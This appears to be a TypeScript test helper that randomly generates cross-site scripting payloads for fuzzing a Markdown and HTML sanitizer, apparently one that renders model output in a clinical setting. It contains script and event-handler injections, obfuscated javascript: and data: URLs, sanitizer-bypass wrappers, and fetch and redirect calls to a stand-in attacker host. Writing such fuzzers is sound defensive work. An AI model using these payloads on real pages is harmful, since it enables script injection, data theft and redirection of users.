import type { Chance } from '../support/seeded';

/** Whoever runs a payload calls here; nobody else does. */
export const foreignHost = 'evil.example';

const acts = [
  'alert(1)',
  'window.fell=1',
  `fetch('https://${foreignHost}/x')`,
  `location='https://${foreignHost}'`,
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  '\u0001javascript:',
  'javascript&#58;',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,',
];

/** What somebody wants to happen: something is run, or somebody else is called. */
const act = (chance: Chance) => chance.pick(acts);
const address = (chance: Chance) =>
  chance.happens(0.5)
    ? `${chance.pick(schemes)}${act(chance)}`
    : `https://${foreignHost}/?p=${chance.below(1e6)}`;
const inCases = (text: string, chance: Chance) =>
  chance.happens(0.3)
    ? [...text].map((sign) => (chance.happens(0.5) ? sign.toUpperCase() : sign)).join('')
    : text;
const quoted = (text: string, chance: Chance) => {
  const sign = chance.pick(['"', "'", '`', '']);
  return `${sign}${text}${sign}`;
};
const entities = (text: string, chance: Chance) =>
  chance.happens(0.2) ? [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('') : text;

const handlers = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['div style="animation:a 1s"', 'onanimationstart'],
  ['a href=#', 'onmouseover'],
  ['math><mtext', 'onclick'],
  ['x contenteditable', 'onblur'],
] as const;
const addressed = [
  ['iframe', 'src'],
  ['iframe', 'srcdoc'],
  ['object', 'data'],
  ['embed', 'src'],
  ['a', 'href'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['base', 'href'],
  ['link rel=stylesheet', 'href'],
  ['link rel=prefetch', 'href'],
  ['meta http-equiv=refresh', 'content'],
  ['img', 'src'],
  ['img', 'srcset'],
  ['script', 'src'],
  ['svg><use', 'xlink:href'],
  ['svg><image', 'href'],
  ['video poster=x', 'src'],
  ['body', 'background'],
  ['table', 'background'],
  ['input type=image', 'src'],
] as const;

/** Markup that would run or call something. */
function markup(chance: Chance): string {
  const gap = chance.pick([' ', '/', '\t', '\f', ' / ']);
  const [tag, handler] = chance.pick(handlers);
  const [other, attribute] = chance.pick(addressed);
  const how = chance.below(6);
  if (how === 0) return `<${inCases('script', chance)}>${act(chance)}</script>`;
  if (how === 1) return `<style>@import '${address(chance)}';*{background:url(${address(chance)})}</style>`;
  if (how < 4)
    return `<${inCases(tag, chance)}${gap}${inCases(handler, chance)}=${quoted(entities(act(chance), chance), chance)}>`;
  return `<${inCases(other, chance)}${gap}${attribute}=${quoted(entities(address(chance), chance), chance)}>x</${other.split(' ')[0]}>`;
}

/** A way of Markdown to be led to an address, or to fetch it. */
function inMarkdown(chance: Chance): string {
  const to = address(chance);
  return chance.pick([
    `[the guideline](${to})`,
    `[the guideline](<${to}>)`,
    `![x](${to})`,
    `![x][r${chance.below(99)}]\n\n[r${chance.below(99)}]: ${to}`,
    `<${to}>`,
    `[![x](${to})](${to})`,
    `[x](${to} "t' onmouseover=alert(1) '")`,
    `[Verified](#dose-${chance.below(99)})`,
    `www.${foreignHost}/${chance.below(99)}`,
    `https://${foreignHost}/${chance.below(99)}`,
    `[x]: ${to}\n\n[x]`,
    `[^1]\n\n[^1]: [x](${to})`,
  ]);
}

/** What hides one payload in another shape. */
function wrapped(payload: string, chance: Chance): string {
  return chance.pick([
    payload,
    payload,
    `- ${payload}`,
    `> ${payload}`,
    `| a | b |\n| - | - |\n| ${payload.replace(/\n/g, ' ')} | x |`,
    `\`\`\`html\n${payload}\n\`\`\``,
    `<!--><!-- -->${payload}`,
    `<![CDATA[${payload}]]>`,
    `<div>${payload}`,
    `</textarea></title></style></script>${payload}`,
    `<noscript><p title="</noscript>${payload}">`,
    `<scr<script>ipt>${payload}`,
    `**${payload}**`,
    `Give ${payload} mg IV`,
    `<svg><style>${payload}`,
    `<math><mi><mglyph><style>${payload}`,
  ]);
}

/** One line that a hostile model, or a hostile report that leads a model, could answer with. */
export const aPayload = (chance: Chance): string =>
  wrapped(chance.happens(0.6) ? markup(chance) : inMarkdown(chance), chance);
